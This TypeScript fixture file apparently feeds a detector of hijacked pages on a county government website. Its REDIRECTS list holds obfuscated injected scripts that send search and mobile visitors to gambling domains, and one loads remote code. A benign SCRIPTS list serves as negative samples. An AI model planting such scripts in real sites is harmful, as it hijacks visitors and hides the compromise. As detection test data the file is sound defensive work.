import type { Put } from './frames.ts';

/** Scripts that send some visitors to another host. */
export const REDIRECTS: readonly Put[] = [
  {
    frame: 0,
    head: '<script>if(/baidu|sogou|so\\.com/i.test(document.referrer)){location.href="https://www.hg8868vip.com/"}</script>',
  },
  {
    frame: 1,
    head: '<script>var r=document.referrer;if(r.indexOf("baidu.com")>0||r.indexOf("google")>0){window.location="http://www.ag-zhenren88.net/?u="+r;}</script>',
  },
  {
    frame: 2,
    end: '<script>if(/iPhone|Android/i.test(navigator.userAgent)){top.location.replace("https://m.yabo-sport.cc/app")}</script>',
  },
  {
    frame: 3,
    head: '<script>(function(){var s=String(document["refe"+"rrer"]);if(s.match(/\\.so\\.|bing/)){self["loc"+"ation"]["href"]="//kaiyun-app.vip"}})()</script>',
  },
  {
    frame: 0,
    end: `<script>eval(atob("${btoa('if(document.referrer.match(/baidu|sm\\.cn/))location.href="http://www.qipai-dating.com"')}"))</script>`,
  },
  {
    frame: 1,
    head: '<script>var b="\\x68\\x74\\x74\\x70\\x3a\\x2f\\x2fwww.hg8868vip.com";if(document.referrer!="")window["\\x6c\\x6f\\x63\\x61\\x74\\x69\\x6f\\x6e"]=b;</script>',
  },
  {
    frame: 2,
    head: '<script>var u=navigator.userAgent.toLowerCase();if(u.indexOf("baiduspider")>-1){document.write(\'<script src="https://js.seo-pool.xyz/a.js"><\\/script>\')}</script>',
  },
  {
    frame: 3,
    end: `<script>var c=[${[...'http://www.ag-zhenren88.net'].map((one) => one.charCodeAt(0)).join(',')}];var t="";for(var i=0;i<c.length;i++)t+=String.fromCharCode(c[i]);if(document.referrer.length>3)location.replace(t);</script>`,
  },
  {
    frame: 0,
    head: '<script>setTimeout(function(){if(/sogou|toutiao/.test(document.referrer))window.open("https://www.kaiyun-app.vip","_self")},800)</script>',
  },
  {
    frame: 1,
    end: '<script>var s=document.referrer;var k=["baidu","360","sm.cn"];for(var i in k){if(s.indexOf(k[i])!=-1){parent.window.opener=null;location.assign("http://www.qipai-dating.com/")}}</script>',
  },
  {
    frame: 2,
    end: `<script>var _0x4a=["${encodeURIComponent('https://www.hg8868vip.com')}","referrer"];if(document[_0x4a[1]].indexOf("baidu")>=0){location.href=decodeURIComponent(_0x4a[0])}</script>`,
  },
  {
    frame: 3,
    head: `<script>const m=window.navigator.userAgent.match(/Mobile|MicroMessenger/);m&&(window.location.href=\`https://m.yabo-sport.cc/?from=\${location.host}\`)</script>`,
  },
  {
    frame: 0,
    head: '<script>if(window.screen.width<768&&document.referrer.includes("sm.cn")){document.location="http://www.ag-zhenren88.net/m"}</script>',
  },
  {
    frame: 1,
    head: `<script>document.write(unescape("${[...'<script>if(/baidu/.test(document.referrer))location="http://www.qipai-dating.com"</script>'].map((one) => `%${one.charCodeAt(0).toString(16).padStart(2, '0')}`).join('')}"))</script>`,
  },
];

/** Scripts that look at referrer or device and send nobody away, or only within the county. */
export const SCRIPTS: readonly Put[] = [
  {
    frame: 0,
    head: '<script>if(/iPhone|Android/i.test(navigator.userAgent)){location.href="https://m.tangxi.gov.cn"+location.pathname}</script>',
  },
  { frame: 1, head: '<script>if(top!=self){top.location.href=self.location.href}</script>' },
  {
    frame: 2,
    end: '<script>document.querySelectorAll("a[href^=http]").forEach(function(a){a.onclick=function(){if(a.host!==location.host&&!confirm("即将离开本网站"))return false}})</script>',
  },
  {
    frame: 3,
    end: '<script>var img=new Image();img.src="/count?ref="+encodeURIComponent(document.referrer)+"&ua="+encodeURIComponent(navigator.userAgent);</script>',
  },
  { frame: 0, head: '<script>if(navigator.userAgent.indexOf("MSIE 8")>0){location.href="/ie/upgrade.html"}</script>' },
  {
    frame: 1,
    end: '<script>function back(){if(document.referrer){history.back()}else{location.href="/"}}</script><a href="javascript:back()">返回</a>',
  },
  {
    frame: 2,
    end: '<script>var ua=navigator.userAgent;if(/MicroMessenger/.test(ua)){document.documentElement.className+=" wx"}</script>',
  },
  {
    frame: 3,
    head: '<script>(function(){var bp=document.createElement("script");bp.src=location.protocol==="https:"?"https://zz.bdstatic.com/linksubmit/push.js":"http://push.zhanzhang.baidu.com/push.js";var s=document.getElementsByTagName("script")[0];s.parentNode.insertBefore(bp,s)})()</script>',
  },
  {
    frame: 0,
    end: '<script>if(/baidu/.test(document.referrer)){document.getElementById("zoom").className+=" from-search"}</script>',
  },
  { frame: 1, head: '<meta http-equiv="refresh" content="600">' },
  {
    frame: 2,
    end: '<script>function bszs(){window.open("https://bszs.conac.cn/sitename?method=show&id=1A2B")}</script><a href="javascript:bszs()">党政机关网站标识</a>',
  },
  { frame: 3, end: '<script>if(screen.width<600){location.replace("/mobile/zcwj/40217.html")}</script>' },
];
